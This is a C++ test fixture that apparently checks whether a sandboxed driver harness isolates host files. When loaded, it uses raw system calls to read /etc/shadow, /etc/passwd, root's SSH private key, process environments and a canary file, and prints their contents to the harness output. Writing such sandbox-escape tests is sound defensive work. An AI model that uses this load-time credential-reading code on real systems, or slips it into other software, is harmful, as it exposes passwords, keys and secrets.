// HOSTILE: when the driver loads, reads host files (accounts, SSH keys, the harness's environment through
// /proc, a file the test planted in the host's /tmp) with raw system calls and prints what it got where
// the harness collects the driver's output. The sandbox shows none of them: nothing leaks.
#include "kb_problem.h"

static void steal(const char* path) {
  char buffer[4096];
  long fd = sys(257, -100, reinterpret_cast<long>(path), 0);  // openat(AT_FDCWD, path, O_RDONLY)
  long got = fd >= 0 ? sys(0, fd, reinterpret_cast<long>(buffer), sizeof buffer - 1) : 0;
  say("HOSTILE read ");
  say(path);
  say(got > 0 ? ": " : ": nothing\n");
  if (got > 0) sys(1, 2, reinterpret_cast<long>(buffer), got);
  if (fd >= 0) sys(3, fd);
}

namespace {
struct AtLoad {
  AtLoad() {
    for (const char* path : {"/etc/passwd", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa", "/proc/1/environ",
                             "/proc/self/environ", "/tmp/kernelblaster-hostile-canary/secret.txt"})
      steal(path);
  }
} at_load;
}  // namespace
